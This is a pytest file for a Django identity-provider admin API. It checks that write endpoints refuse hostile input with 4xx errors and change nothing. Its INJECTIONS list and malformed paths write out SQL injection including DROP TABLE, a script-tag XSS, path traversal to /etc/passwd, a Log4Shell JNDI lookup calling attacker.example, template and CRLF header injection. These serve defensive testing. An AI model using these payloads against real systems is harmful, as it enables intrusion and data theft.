"""Hostile input on every write endpoint gets a 4xx in the RFC 6749 shape, never a 5xx, and
changes nothing: oversized strings, wrong JSON types, NUL bytes and other control characters,
injection strings, unknown fields, bodies that are not a JSON object, and malformed paths.

The other hostile-input tests, and what they share, are listed in tests/hostile.py."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from django.test import Client

from accounts.models import Permission, Role, RoleAssignment, User
from audit.models import AuditEvent
from idp.models import Application
from tests.api.conftest import Api, role_with, unique
from tests.factories import USER_PASSWORD, UserFactory, make_machine_client
from tests.hostile import refusal_problems

HUGE = "A" * 10 * 1024
INJECTIONS = [
    "' OR '1'='1' --",
    "x'; DROP TABLE accounts_user; --",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "%00",
    "admin\r\nSet-Cookie: x=y",
    "\u202eevil",
    "\ud800",  # a lone surrogate: not encodable as UTF-8 text
]
CONTROL = ["x\x00y", "\x00", "a\x1fb"]
WRONG_TYPES: dict[str, list[Any]] = {
    "string": [12345, 1.5, True, None, ["a"], {"a": "b"}],
    "integer": ["12", 1.5, True, None, [1], {"a": 1}, 2**70, -1],
    "list": ["a", 1, True, {"a": 1}, [1], [None], [["a"]], [HUGE]],
    "boolean": ["true", 1, 0, None, [], {}],
}
NOT_AN_OBJECT = [[], ["a"], "string", 42, True, None]


@dataclass(frozen=True)
class Write:
    """One write endpoint: how to build a valid request, and its fields by kind. `constrained`
    string fields have a grammar (usernames, codenames, URIs) that no injection string passes;
    free-text fields (descriptions) take such strings as the text they are."""

    name: str
    method: str
    path: Callable[[dict[str, Any]], str]
    body: Callable[[dict[str, Any]], dict[str, Any]]
    constrained: tuple[str, ...] = ()
    free_text: tuple[str, ...] = ()
    integers: tuple[str, ...] = ()
    lists: tuple[str, ...] = ()
    booleans: tuple[str, ...] = ()
    nullable: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name


WRITES = [
    Write(
        "user_create",
        "POST",
        lambda w: "/users/",
        lambda w: {"username": unique("u"), "email": "u@example.com", "password": USER_PASSWORD},
        constrained=("username", "email"),
        free_text=("password", "first_name", "last_name"),
    ),
    Write(
        "user_deactivate",
        "POST",
        lambda w: f"/users/{w['user'].pk}/deactivate/",
        lambda w: {"reason": "left"},
        free_text=("reason",),
    ),
    Write(
        "permission_create",
        "POST",
        lambda w: "/permissions/",
        lambda w: {"codename": "reports.read", "description": "d"},
        constrained=("codename",),
        free_text=("description",),
    ),
    Write(
        "role_create",
        "POST",
        lambda w: "/roles/",
        lambda w: {"name": "auditors", "permissions": ["idp.roles.read"], "client_id": w["client"].client_id},
        constrained=("name", "client_id"),
        free_text=("description",),
        lists=("permissions",),
        nullable=("client_id",),  # null: a global role
    ),
    Write(
        "role_update",
        "PATCH",
        lambda w: f"/roles/{w['role'].pk}/",
        lambda w: {"description": "d", "permissions": ["idp.roles.read"]},
        free_text=("description",),
        lists=("permissions",),
    ),
    Write(
        "role_grant",
        "POST",
        lambda w: "/role-assignments/",
        lambda w: {"role": w["role"].pk, "user": w["user"].pk},
        integers=("role", "user", "group"),
        constrained=("client_id",),
    ),
    Write(
        "client_create",
        "POST",
        lambda w: "/clients/",
        lambda w: {
            "name": "Web",
            "client_type": "confidential",
            "grant": "authorization_code",
            "redirect_uris": ["https://rp.example/cb"],
            "scopes": ["openid"],
        },
        constrained=("client_type", "grant"),
        free_text=("name",),
        lists=("redirect_uris", "post_logout_redirect_uris", "scopes"),
        booleans=("skip_consent", "require_pkce"),
    ),
    Write(
        "client_rotate_secret",
        "POST",
        lambda w: f"/clients/{w['client'].client_id}/rotate-secret/",
        lambda w: {"grace_seconds": 60},
        integers=("grace_seconds",),
    ),
    Write(
        "client_disable",
        "POST",
        lambda w: f"/clients/{w['client'].client_id}/disable/",
        lambda w: {"reason": "gone"},
        free_text=("reason",),
    ),
]


def hostile_bodies(write: Write, valid: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """(label, JSON body) pairs, each the valid body spoiled in one way."""
    fields = (*write.constrained, *write.free_text, *write.integers, *write.lists, *write.booleans)
    for name in fields:
        yield f"{name}=10KB", {**valid, name: HUGE}
        for value in CONTROL:
            if name not in write.integers:
                yield f"{name}={value!r}", {**valid, name: value}
        kind = (
            "integer"
            if name in write.integers
            else "list"
            if name in write.lists
            else "boolean"
            if name in write.booleans
            else "string"
        )
        for value in WRONG_TYPES[kind]:
            if not (value is None and name in write.nullable):
                yield f"{name}={value!r}"[:60], {**valid, name: value}
    for name in write.constrained:
        for value in INJECTIONS:
            yield f"{name}={value!r}", {**valid, name: value}
    for name in write.lists:
        for value in INJECTIONS:
            yield f"{name}=[{value!r}]", {**valid, name: [value]}
    for key in ("unknown", "id", "role_id", "__proto__", "", "x\x00", HUGE):
        yield f"unknown field {key[:10]!r}", {**valid, key: 1}


def raw_bodies() -> Iterator[tuple[str, bytes, str]]:
    """(label, raw body, content type): JSON that is not an object, and what no JSON encoder
    would send."""
    for body in NOT_AN_OBJECT:
        yield f"body {body!r}", json.dumps(body).encode(), "application/json"
    yield "malformed JSON", b'{"name": ', "application/json"
    yield "not UTF-8", b'{"name": "\xff\xfe"}', "application/json"
    yield "NaN", b'{"grace_seconds": NaN}', "application/json"
    yield "a number too long for Python", b'{"grace_seconds": ' + b"9" * 5000 + b"}", "application/json"
    yield "nested 100000 deep", b"[" * 100_000 + b"]" * 100_000, "application/json"
    yield "larger than the upload limit", b'{"name": "' + b"A" * 300_000 + b'"}', "application/json"
    yield "a form body", b"name=x&is_staff=1", "application/x-www-form-urlencoded"
    yield "XML", b"<name>x</name>", "application/xml"


def state() -> dict[str, Any]:
    return {
        "users": sorted(User.objects.values_list("pk", "username", "email", "is_active", "first_name", "last_name")),
        "roles": sorted(Role.objects.values_list("pk", "name", "description")),
        "role_permissions": sorted(Role.permissions.through.objects.values_list("role_id", "permission_id")),
        "assignments": sorted(RoleAssignment.objects.values_list("pk", "role_id", "user_id", "group_id", "client_id")),
        "permissions": sorted(Permission.objects.values_list("codename", "description")),
        "clients": sorted(
            Application.objects.values_list("pk", "name", "is_active", "client_secret", "previous_client_secret")
        ),
        "audit_events": AuditEvent.objects.count(),
    }


@pytest.fixture
def world(admin) -> dict[str, Any]:
    role = role_with([], name=unique("target"))
    user = UserFactory()
    from accounts.services import role_grant
    from tests.api.conftest import SYSTEM

    return {
        "role": role,
        "user": user,
        "assignment": role_grant(role=role, user=UserFactory(), actor=SYSTEM),
        "client": make_machine_client().application,
    }


@pytest.mark.parametrize("write", WRITES, ids=str)
def test_hostile_bodies_are_refused_and_change_nothing(admin, world, write):
    api = admin.api()
    path, valid = write.path(world), write.body(world)
    before = state()
    found = []
    for label, body in hostile_bodies(write, valid):
        found += refusal_problems(label, api.request(write.method, path, json=body))
    for label, raw, content_type in raw_bodies():
        reply = api.request(write.method, path, data=raw, headers={"Content-Type": content_type})
        found += refusal_problems(label, reply)
    assert found == []
    assert state() == before


MALFORMED_PATHS = [
    "/users/99999999999999999999999/deactivate/",
    "/users/-1/deactivate/",
    "/users/0/deactivate/",
    "/users/1e3/deactivate/",
    "/roles/%00/",
    "/roles/1%00/",
    "/roles/" + "9" * 5000 + "/",
    "/role-assignments/' OR 1=1 --/",
    "/role-assignments/99999999/",
    "/clients/%00/disable/",
    "/clients/" + "a" * 10240 + "/disable/",
    "/clients/..%2F..%2Fadmin/rotate-secret/",
    "/clients/%E2%80%AE/disable/",
    "/clients/no-such-client/disable/",
    "/roles/999999999999999999/",
]


def test_malformed_and_unknown_paths_are_json_404s(admin):
    """The DELETE endpoints take nothing but their path. Through Django's test client: the live
    server's own file handler chokes on a 10 KB path before the application sees it."""
    client = Client(HTTP_AUTHORIZATION=f"Bearer {admin.api().token}")
    before = state()
    for path in MALFORMED_PATHS:
        for method in ("get", "post", "patch", "delete"):
            reply = getattr(client, method)(f"/api/v1{path}", data={}, content_type="application/json")
            assert reply.status_code in (404, 405), (method, path[:60], reply.status_code, reply.content[:200])
            assert reply.json()["error"] in ("not_found", "invalid_request")
    assert state() == before


def test_free_text_holds_injection_strings_as_inert_text(admin, world):
    """Descriptions are free text: a string that looks like SQL or HTML is stored as given and
    comes back as given, JSON-encoded, executing nothing."""
    api = admin.api()
    for text in INJECTIONS[:-1]:  # a lone surrogate is not text at all
        reply = api.patch(f"/roles/{world['role'].pk}/", {"description": text})
        assert reply.status_code == 200, reply.text
        assert reply.json()["description"] == text
        assert Role.objects.get(pk=world["role"].pk).description == text
    assert User.objects.filter(username__isnull=False).exists(), "the users table is still there"
    assert api.patch(f"/roles/{world['role'].pk}/", {"description": INJECTIONS[-1]}).status_code == 400


def test_an_empty_body_is_valid_where_every_field_is_optional(admin, world):
    reply = Api(admin.api().base_url, admin.api().token).request(
        "POST", f"/clients/{world['client'].client_id}/disable/"
    )
    assert reply.status_code == 200
    assert json.loads(reply.text)["is_active"] is False
